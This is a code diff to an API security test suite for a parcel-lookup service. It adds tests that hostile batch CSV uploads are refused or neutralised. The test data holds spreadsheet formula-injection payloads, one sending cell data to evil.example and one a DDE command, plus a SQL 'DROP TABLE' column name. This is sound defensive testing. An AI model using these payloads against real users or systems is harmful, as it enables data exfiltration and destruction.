@@ -2,6 +2,7 @@ import { FORMAT_IDS } from '../../../src/contracts/dataset-formats';
 import { createHmac } from 'node:crypto';
 import { STATUS_CODES } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { gzipSync } from 'node:zlib';
 import request from 'supertest';
 import { authConfig } from '../../../src/config';
 import { JOURNEY_EVENTS } from '../../../src/contracts/journey';
@@ -40,7 +41,9 @@ import {
 import { buy } from '../../support/purchase';
 import { signIn } from '../../support/sign-in';
 import { testStripe } from '../../support/stripe';
-import { TEST_ADMIN_PASSWORD, useTestApp } from '../../support/test-app';
+import { startTestWorker, TEST_ADMIN_PASSWORD, useTestApp } from '../../support/test-app';
+import { eventually } from '../../support/eventually';
+import { parseCsv } from '../../../src/common/csv';
 import { WebClient } from '../../support/web-client';
 
 /*
@@ -192,6 +195,9 @@ describe('Hostile input to every endpoint', () => {
   let trackerAutoRenew: boolean;
   let invoiceId: string;
   let otherInvoiceId: string;
+  /** Batch appends (queued: no worker runs while the cases do) of the buyer and of another customer. */
+  let buyerBatchId: string;
+  let otherBatchId: string;
   /** An empty draft release: hostile source files are sent to it, and leave it empty. */
   let draftReleaseId: string;
 
@@ -316,6 +322,16 @@ describe('Hostile input to every endpoint', () => {
     const otherWeb = new WebClient(origin);
     await signIn(otherWeb, { email: otherEmail });
     otherApiTokenId = (await makeToken(otherWeb.cookieHeader(), 'Another customer’s')).id;
+    const batchOf = async (cookie: string) =>
+      (
+        await api()
+          .post('/api/parcel-batches')
+          .set({ Cookie: cookie, 'Content-Type': 'text/csv' })
+          .send('id,address\n1,1 Main St\n')
+          .expect(202)
+      ).body.id as string;
+    buyerBatchId = await batchOf(customerCookie);
+    otherBatchId = await batchOf(otherWeb.cookieHeader());
 
     const docs = await api().get('/api/docs-json').expect(200);
     operations = readOperations(docs.body);
@@ -480,6 +496,51 @@ describe('Hostile input to every endpoint', () => {
     );
     expect(stored.map((r) => r.note).sort()).toEqual(notes.map((n) => n.value).sort());
     expect(await elsewhere()).toEqual(untouched);
+  }, 60_000);
+
+  // Runs after the fingerprint: a worker matches the batch, which changes its row.
+  it('writes a batch result whose hostile cells a spreadsheet takes as text, never as formulas', async () => {
+    const worker = await startTestWorker(context.environment);
+    try {
+      const hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
+        "=cmd|' /C calc'!A0",
+        '+SUM(1+1)',
+        '-2+3',
+        '@SUM(A1:A9)',
+        '\t=1+1',
+        '\r=1+1',
+        '  =1+1',
+      ];
+      const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
+      const body = [
+        'id,address,note',
+        ...hostile.map((value) => [quoted(value), '1 Main St', quoted(value)].join(',')),
+      ].join('\n');
+      const sent = await send(port, {
+        method: 'POST',
+        target: '/api/v1/batches',
+        headers: { 'X-Forwarded-For': nextAddress(), 'Content-Type': 'text/csv', ...tokenHeaders() },
+        body,
+      });
+      expect(sent.status).toBe(202);
+      const id = (sent.json as { id: string }).id;
+      await eventually(async () => {
+        const [row] = await context.store.db.query(`SELECT status FROM parcel_batches WHERE id = $1`, [id]);
+        return row.status === 'done' || row.status === 'failed';
+      }, 30_000);
+      const result = await send(port, {
+        method: 'GET',
+        target: `/api/v1/batches/${id}/result`,
+        headers: tokenHeaders(),
+      });
+      expect(result.status).toBe(200);
+      const [header, ...rows] = parseCsv(result.text);
+      expect(header.slice(0, 6)).toEqual(['id', 'address', 'note', 'parcel_key', 'match_kind', 'match_score']);
+      expect(rows.map((row) => [row[0], row[2]])).toEqual(hostile.map((value) => [`'${value}`, `'${value}`]));
+    } finally {
+      await worker.close();
+    }
   }, 60_000);
 
   // -------------------------------------------------------------------------------------------
@@ -726,26 +787,62 @@ describe('Hostile input to every endpoint', () => {
             fields: ['fields'],
           },
         };
+      case 'GET /api/parcels/{parcelKey}':
+        // The store's map asks as the data API does, with the session.
+        return {
+          role: 'customer',
+          params: { parcelKey: { value: '24510A1', kind: 'token' } },
+          queryProbe: {
+            req: probe({ method: 'GET', target: '/api/parcels/24510A1', headers: customerHeaders() }),
+            expect: [400],
+            fields: ['fields'],
+          },
+        };
+      case 'GET /api/parcel-map':
+        return get(path, 'customer');
+      case 'GET /api/counties/{id}/parcel-preview':
+        // A county on sale whose parcels are not loaded (404): a removed one answers alike, a hostile id is refused.
+        return {
+          role: 'anonymous',
+          params: {
+            id: { value: counties[1].id, kind: 'uuid', extra: [{ label: 'a removed county', value: removedCountyId }] },
+          },
+          queryProbe: {
+            req: probe({ method: 'GET', target: path.replace('{id}', counties[1].id) }),
+            expect: 'ignored',
+          },
+        };
       case 'GET /api/v1/tiles/{z}/{x}/{y}.mvt':
+      case 'GET /api/tiles/{z}/{x}/{y}.mvt':
+      case 'GET /api/admin/tiles/{z}/{x}/{y}.mvt':
       case 'GET /api/tiles/preview/{z}/{x}/{y}.mvt': {
         // A tile of Baltimore at zoom 16; it takes no query.
         const tile = { z: { value: '16', kind: 'tile' as const }, x: { value: '18337', kind: 'tile' as const } };
-        const role: Role = key.includes('/v1/') ? 'token' : 'anonymous';
+        const role: Role = key.includes('/v1/')
+          ? 'token'
+          : key.includes('/admin/')
+            ? 'admin'
+            : key.includes('/preview/')
+              ? 'anonymous'
+              : 'customer';
         return {
           ...get(path.replace('{z}/{x}/{y}', '16/18337/25077'), role),
           params: { ...tile, y: { value: '25077', kind: 'tile' } },
         };
       }
-      case 'GET /api/v1/parcels': {
+      case 'GET /api/v1/parcels':
+      case 'GET /api/parcels': {
         // One question a request, each value in range: anything else is refused, nothing is looked up.
         // Each request its own address and the next of the buyer's tokens: 150 of them would meet one token's rate limit.
+        // The store's map (/api/parcels) asks the same with the buyer's session.
+        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
         const asked = (query: string): RawRequest => ({
           method: 'GET',
           target: `${path}?${query}`,
-          headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders('token') },
+          headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders(role) },
         });
         return {
-          role: 'token',
+          role,
           queryProbe: {
             req: () => asked('address=1%20Main%20St'),
             expect: [400],
@@ -775,6 +872,51 @@ describe('Hostile input to every endpoint', () => {
               req: asked(query),
               expect: { kind: 'refused' as const, statuses: [400] },
             })),
+        };
+      }
+      case 'POST /api/v1/batches':
+      case 'POST /api/parcel-batches': {
+        // The body is the CSV; what is refused is listed in batchCases. The probe's body is no batch, so none is made.
+        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
+        return {
+          role,
+          acts: true,
+          queryProbe: {
+            req: () => ({
+              method: 'POST',
+              target: path,
+              headers: { 'X-Forwarded-For': nextAddress(), 'Content-Type': 'text/csv', ...roleHeaders(role) },
+              body: 'not,a,batch\n1,2,3\n',
+            }),
+            expect: [400],
+            fields: ['fields'],
+          },
+          more: () => batchCases(key, role),
+        };
+      }
+      case 'GET /api/v1/batches':
+        return get(path, 'token');
+      case 'GET /api/parcel-batches':
+        return get(path, 'customer');
+      case 'GET /api/v1/batches/{id}':
+      case 'GET /api/v1/batches/{id}/result':
+      case 'GET /api/parcel-batches/{id}':
+      case 'GET /api/parcel-batches/{id}/result': {
+        // The buyer's batch, still queued: its result is a 409; another customer's is a 404.
+        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
+        return {
+          role,
+          params: {
+            id: {
+              value: buyerBatchId,
+              kind: 'uuid',
+              extra: [{ label: 'another customer’s batch', value: otherBatchId }],
+            },
+          },
+          queryProbe: {
+            req: probe({ method: 'GET', target: path.replace('{id}', buyerBatchId), headers: roleHeaders(role) }),
+            expect: 'ignored',
+          },
         };
       }
       case 'POST /api/tokens':
@@ -895,6 +1037,7 @@ describe('Hostile input to every endpoint', () => {
       case 'GET /api/admin/analytics':
       case 'GET /api/admin/releases':
       case 'GET /api/admin/coverage':
+      case 'GET /api/admin/parcel-fields':
         return get(path, 'admin');
       case 'GET /api/admin/audit-log':
         // Every filter and the paging are declared and checked: hostile values and unknown names are refused.
@@ -2113,6 +2256,54 @@ describe('Hostile input to every endpoint', () => {
       add('content type', `${label}, badly signed`, { ...value.headers, ...bogus }, value.body);
     }
     return out;
+  }
+
+  /** Batches that must be refused, leaving no batch and no file: too large, not CSV, not a batch. */
+  function batchCases(endpoint: string, role: Role): Case[] {
+    const target = endpoint.split(' ')[1];
+    const csv = { 'Content-Type': 'text/csv' };
+    const rows = (n: number) => ['id,address', ...Array.from({ length: n }, (_, i) => `${i},${i} Main St`)].join('\n');
+    const cases: [string, Record<string, string>, string | Buffer, number[]][] = [
+      // Refused by its Content-Length, before it is read.
+      ['a 100 MB batch', csv, Buffer.alloc(100 * 1024 * 1024, 'id,address\n1,1 Main St\n'), [413]],
+      ['100,001 rows', csv, rows(100_001), [400]],
+      ['no content type', {}, rows(1), [415]],
+      ['JSON', { 'Content-Type': 'application/json' }, '{"id":1,"address":"1 Main St"}', [415]],
+      ['multipart', { 'Content-Type': 'multipart/form-data; boundary=x' }, '--x--', [415]],
+      ['CSV in latin1', { 'Content-Type': 'text/csv; charset=latin1' }, rows(1), [415]],
+      ['CSV said to be gzip', { ...csv, 'Content-Encoding': 'gzip' }, gzipSync(rows(1)), [415]],
+      ['an empty body', csv, '', [400]],
+      ['only a header', csv, 'id,address\n', [400]],
+      ['no id column', csv, 'ref,address\n1,1 Main St\n', [400]],
+      ['nothing to match by', csv, 'id,name\n1,Ada\n', [400]],
+      ['lat without lon', csv, 'id,lat\n1,39\n', [400]],
+      ['parcel without county', csv, 'id,parcel\n1,12-345\n', [400]],
+      ['id twice', csv, 'id,ID,address\n1,2,1 Main St\n', [400]],
+      ['a row with more fields than the header', csv, 'id,address\n1,1 Main St,extra\n', [400]],
+      ['an unterminated quote', csv, 'id,address\n1,"1 Main St\n', [400]],
+      ['NUL bytes', csv, Buffer.from('id,address\n1,\u0000\n'), [400]],
+      [
+        'invalid UTF-8',
+        csv,
+        Buffer.concat([Buffer.from('id,address\n1,'), Buffer.from([0xff, 0xfe]), Buffer.from('\n')]),
+        [400],
+      ],
+      ['a binary file', csv, gzipSync(rows(100)), [400]],
+      ['a header of 100 KB', csv, `id,address,${'x'.repeat(100_000)}\n1,2,3\n`, [400]],
+      ['a SQL column name', csv, 'id,"address; DROP TABLE parcel_batches"\n1,x\n', [400]],
+    ];
+    return cases.map(([name, extra, body, statuses]) => ({
+      endpoint,
+      family: 'file' as const,
+      name,
+      req: {
+        method: 'POST',
+        target,
+        headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders(role), ...extra },
+        body,
+      },
+      expect: { kind: 'refused' as const, statuses },
+    }));
   }
 
   /** County files that must be refused: not gzip, not CSV, not this county's, and other content types. */
